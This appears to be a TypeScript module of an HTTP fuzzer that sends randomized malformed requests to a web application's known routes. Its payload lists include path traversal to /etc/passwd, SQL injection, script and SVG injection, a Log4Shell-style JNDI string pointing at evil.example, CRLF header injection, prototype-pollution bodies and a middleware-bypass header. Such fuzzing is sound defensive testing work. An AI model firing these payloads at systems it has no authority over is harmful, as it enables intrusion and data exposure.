import { randomBytes } from 'node:crypto';
import { oneOf, type Sent } from './sender.ts';

const methods = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND'];

/** Texts that have broken servers: paths, markup, SQL, templates, numbers, Unicode. */
const texts = [
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%E0%A4%A',
  '%',
  '..',
  '.env',
  '//evil.example',
  '\\evil.example',
  "'%20OR%201%3D1--",
  "';drop%20table%20record;--",
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%7B%7B7*7%7D%7D',
  '$%7Bjndi:ldap://evil.example%7D',
  '__proto__',
  'constructor',
  '-1',
  '9007199254740993',
  '1e309',
  'NaN',
  '%F0%9F%92%A3',
  '%E2%80%AE',
  '%0d%0aset-cookie:x=1',
  'a'.repeat(2000),
  '00000000-0000-0000-0000-000000000000',
  'ca-phe-ben-vung-dak-lak',
];

const names = [
  'q',
  'page',
  'sort',
  'country',
  'bbox',
  'kind',
  'returnUrl',
  'token',
  'state',
  'code',
  '__proto__',
  'locale',
  'limit',
];

const headerNames = [
  'cookie',
  'authorization',
  'accept',
  'accept-language',
  'accept-encoding',
  'range',
  'if-none-match',
  'if-modified-since',
  'x-forwarded-for',
  'x-forwarded-host',
  'x-request-id',
  'traceparent',
  'origin',
  'referer',
  'content-type',
  'idempotency-key',
  'if-match',
  'x-recaptcha-token',
  'next-router-state-tree',
  'x-nextjs-data',
  'x-middleware-subrequest',
  'prefer',
];

const values = [
  '',
  '*',
  'null',
  'auth_token=x',
  'auth_token=a.b.c; auth_token=d.e.f',
  'NEXT_LOCALE=../../x',
  'Bearer x.y.z',
  'Basic YTpi',
  'bytes=0-,5-1,-999999999999',
  'W/"x", "y", *',
  'Thu, 99 Foo 2026 99:99:99 GMT',
  '203.0.113.7, unknown, ::1',
  'evil.example:80:80',
  'gzip;q=9, br;q=x, *;q=0',
  'vi;q=2, en-US-x-y-z, zz',
  'application/json',
  'application/json; charset=utf-7',
  'multipart/form-data',
  'multipart/form-data; boundary=x',
  'application/x-www-form-urlencoded',
  'text/html',
  '00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff',
  '"1"',
  'x'.repeat(3000),
];

const bodies: readonly (string | Buffer)[] = [
  '',
  '{',
  'null',
  '[]',
  '{"__proto__":{"admin":true}}',
  '{"email":"a@b","name":{"toString":1}}',
  `{"a":${'['.repeat(500)}${']'.repeat(500)}}`,
  'a=1&a=2&__proto__[x]=1',
  '--x\r\ncontent-disposition: form-data; name="file"; filename="../x.svg"\r\n\r\n<svg onload=alert(1)>\r\n--x--',
  '\u0000\uffff',
  'x'.repeat(20_000),
  randomBytes(300),
];

const withBody = new Set(['POST', 'PUT', 'PATCH', 'DELETE']);

/** Returns a known path (`POST /…`, or read), changed, with unusual headers and body. */
export function hostileRequest(targets: readonly string[], random: () => number): Sent {
  const likely = (chance: number) => random() < chance;
  const [, known = 'GET', given = '/'] = /^(?:([A-Z]+) )?(.*)$/.exec(oneOf(targets, random)) ?? [];
  let path = given;
  if (likely(0.4)) {
    const parts = path.split('/');
    parts[1 + Math.floor(random() * (parts.length - 1))] = oneOf(texts, random);
    path = parts.join('/');
  }
  if (likely(0.1)) path += `/${oneOf(texts, random)}`;
  const query = Array.from(
    { length: Math.floor(random() * 4) },
    () => `${oneOf(names, random)}=${oneOf(texts, random)}`,
  );
  if (query.length > 0) path += `?${query.join('&')}`;
  const method = likely(0.7) ? known : oneOf(methods, random);
  const headers: Record<string, string> = {};
  for (let left = Math.floor(random() * 4); left > 0; left -= 1)
    headers[oneOf(headerNames, random)] = oneOf(values, random);
  const body = withBody.has(method) && likely(0.8) ? oneOf(bodies, random) : undefined;
  if (body === undefined) return { method, path, headers };
  if (likely(0.7)) headers['content-type'] = 'application/json';
  headers['content-length'] = String(Buffer.byteLength(body));
  return { method, path, headers, body };
}
